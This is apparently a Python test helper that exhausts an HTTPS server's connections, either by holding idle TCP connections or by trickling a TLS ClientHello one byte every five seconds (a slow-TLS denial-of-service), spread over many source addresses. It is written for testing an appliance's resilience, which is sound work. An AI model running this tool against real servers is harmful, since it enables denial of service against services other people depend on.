#!/usr/bin/env python3
"""Connection-exhaustion attacks on an HTTPS port, for the tests (run in a namespace the test
made, against the appliance it started; bounded by DURATION):

    https_attack.py idle|slowtls HOST PORT CONNECTIONS DURATION [--sources FIRST COUNT]
                    [--rate R]

  idle     CONNECTIONS TCP connections that never send a byte; each one the server closes is
           opened again at once.
  slowtls  CONNECTIONS connections that trickle a TLS ClientHello, one byte every 5 s; reopened
           when closed.
  --sources  spread the connections over COUNT source addresses from FIRST up (IPv4; they must
           be local: the test routes them to lo in the attacker's namespace).
  --rate   open at most R connections a second (default: as fast as they are closed).

Prints one JSON line at the end: connections opened, closed by the server, refused at connect,
and the most held open at once.
"""
import ipaddress
import json
import selectors
import socket
import sys
import time

# The first bytes of a TLS 1.2 ClientHello record (content type 22, version 3.1, length...).
HELLO = bytes.fromhex("160301020001") + bytes(64)


def main():
    mode, host, port, count, duration = (sys.argv[1], sys.argv[2], int(sys.argv[3]),
                                          int(sys.argv[4]), float(sys.argv[5]))
    sources = [None]
    if "--sources" in sys.argv:
        i = sys.argv.index("--sources")
        first, n = ipaddress.ip_address(sys.argv[i + 1]), int(sys.argv[i + 2])
        sources = [str(first + k) for k in range(n)]
    rate = float(sys.argv[sys.argv.index("--rate") + 1]) if "--rate" in sys.argv else 0
    sel = selectors.DefaultSelector()
    stats = {"mode": mode, "opened": 0, "closed_by_server": 0, "refused": 0, "max_open": 0}
    conns = {}   # socket -> [next byte index, time of next byte]
    start = time.monotonic()
    end = start + duration
    k = 0

    def open_one():
        nonlocal k
        src = sources[k % len(sources)]
        k += 1
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        if src:
            s.setsockopt(socket.SOL_IP, 15, 1)   # IP_FREEBIND
            s.bind((src, 0))
        try:
            s.connect((host, port))
        except BlockingIOError:
            pass
        except OSError:
            stats["refused"] += 1
            s.close()
            return
        conns[s] = [0, time.monotonic()]
        sel.register(s, selectors.EVENT_READ)
        stats["opened"] += 1

    def drop(s, by_server):
        sel.unregister(s)
        del conns[s]
        s.close()
        if by_server:
            stats["closed_by_server"] += 1

    while time.monotonic() < end:
        while len(conns) < count and (rate <= 0 or
                                       stats["opened"] < rate * (time.monotonic() - start) + count):
            open_one()
        stats["max_open"] = max(stats["max_open"], len(conns))
        now = time.monotonic()
        for key, _ in sel.select(timeout=0.05):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except (ConnectionResetError, ConnectionRefusedError, OSError):
                data = b""
            if not data:
                drop(s, True)
        if mode == "slowtls":
            for s, state in list(conns.items()):
                if now >= state[1] and state[0] < len(HELLO):
                    try:
                        s.send(HELLO[state[0]:state[0] + 1])
                        state[0] += 1
                    except BlockingIOError:
                        pass
                    except OSError:
                        drop(s, True)
                        continue
                    state[1] = now + 5
    for s in list(conns):
        drop(s, False)
    print(json.dumps(stats), flush=True)


if __name__ == "__main__":
    main()
